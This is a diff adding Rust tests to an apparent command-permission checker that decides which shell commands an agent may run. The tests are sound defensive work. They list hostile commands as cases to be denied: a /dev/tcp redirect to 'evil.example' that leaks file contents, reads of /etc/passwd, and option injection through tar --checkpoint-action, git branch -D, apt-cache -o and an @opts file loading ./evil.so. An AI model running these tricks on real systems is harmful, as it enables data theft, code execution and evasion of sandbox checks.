@@ -374,6 +374,102 @@ fn names_of_secrets_are_known_by_their_parts() {
     }
 }
 
+/// C1: what a pattern matches, or what a command prints that is no `find .`, may be an address or a script to a program.
+#[test]
+fn found_paths_that_do_not_begin_as_paths_are_asked_about() {
+    let place = Place::new();
+    place.write("src/shop/m/a.png", "a");
+    for (text, allowed) in [
+        ("find m -type f -print0 | xargs -0 identify", true),
+        ("find m* -type f -print0 | xargs -0 identify", false),
+        ("find . -name a -type f -exec kustomize build {} ';'", true),
+        ("rg -l0 foo m | xargs -0 -I{} kustomize build {}", false),
+    ] {
+        place.is_allowed(text, allowed, "an address, a script or a task");
+    }
+}
+
+/// C1: what a command prints is paths only where it prints one kind of lines, and no errors among them.
+#[test]
+fn paths_among_other_lines_are_not_known() {
+    let place = Place::new();
+    place.write("src/shop/README.md", "a");
+    place.write("src/shop/web/a.ts", "a");
+    for text in [
+        "find web -type f -print0 | xargs -0 cat",
+        "find web -type f -print0 2>/dev/null | xargs -0 cat",
+        "find web -type f -exec grep -lZ a {} + | xargs -0 cat",
+    ] {
+        place.is_allowed(text, true, "paths");
+    }
+    for text in [
+        r"find README.md -exec printf '.\0-delete\0' \; -exec find {} -type f -print0 \; | xargs -0 find",
+        r"find README.md -exec printf '/etc/passwd\0' \; -exec grep -lZ a {} + | xargs -0 cat",
+        "find web -type f -print -print0 | xargs -0 cat",
+        "find web -type f -print -exec grep -lZ a {} + | xargs -0 cat",
+        "find nope web -type f -print0 2>&1 | xargs -0 cat",
+        "find nope web -type f -print0 |& xargs -0 cat",
+        "find nope web -type f -print0 2>/dev/stdout | xargs -0 cat",
+        "timeout 5 find nope web -type f -print0 2>&1 | xargs -0 cat",
+        "cat $(find nope web -type f 2>&1)",
+    ] {
+        place.is_allowed(text, false, "other lines");
+    }
+}
+
+/// C1: a redirection to a file that is not known may lead to another machine, with what stands in its name.
+#[test]
+fn a_file_that_is_only_counted_is_below_a_folder() {
+    let place = Place::new();
+    for text in [
+        "while read -r x; do wc -c < \"/dev/tcp/$x.evil.example/80\"; done < README.md",
+        "while read -r x; do wc -c < \"$x\"; done < README.md",
+        "while read -r x; do wc -c < ~/$x; done < README.md",
+    ] {
+        place.is_allowed(text, false, "another machine");
+    }
+    place.is_allowed(
+        "while read -r x; do wc -c < \"web/$x\"; done < README.md",
+        true,
+        "below a folder",
+    );
+}
+
+/// C1: a word that the shell splits may become an option, whatever it begins with.
+#[test]
+fn a_word_that_is_split_may_hold_an_option() {
+    let place = Place::new();
+    place.write("src/shop/a.tar", "a");
+    for text in [
+        "tar tf a.tar a$(echo ' --checkpoint=1 --checkpoint-action=exec=./x.sh')",
+        "x=' --checkpoint-action=exec=./x.sh'; y=\"$1$x\"; tar tf a.tar a$y",
+        "while read -r x; do tar tf a.tar a$x; done < README.md",
+        "git branch --list a$(echo ' --no-list -D other')",
+        "pkg-config --libs a$(echo ' --log-file=README.md')",
+        "apt-cache show a$(echo ' -o Dir::Bin::dpkg=./x.sh')",
+    ] {
+        place.is_allowed(text, false, "an option");
+    }
+    place.is_allowed("tar tf a.tar \"a$(date)\"", true, "one word");
+}
+
+/// C1: "`@file`: a file of options", also as the value of an option.
+#[test]
+fn a_file_of_options_is_asked_about_wherever_it_stands() {
+    let place = Place::new();
+    place.write("src/shop/a.o", "a");
+    for text in ["strings -e @opts a.o", "nm -U @opts a.o", "objdump -M @opts -d a.o"] {
+        place.is_allowed(&format!("touch opts; {text}"), false, "another command makes it");
+    }
+    place.write("src/shop/opts", "--plugin ./evil.so");
+    for text in
+        ["strings -e @opts a.o", "nm -U @opts a.o", "objdump -M @opts -d a.o", "addr2line -b @opts"]
+    {
+        place.is_allowed(text, false, "a file of options");
+    }
+    place.is_allowed("grep -rn @media web", true, "no file is called so");
+}
+
 /// C1: "Paths that are split at blanks": without `-print0` where no name below the folders is split, or may be an option.
 #[test]
 fn paths_from_a_pipe_need_no_nul_where_no_name_has_a_blank() {
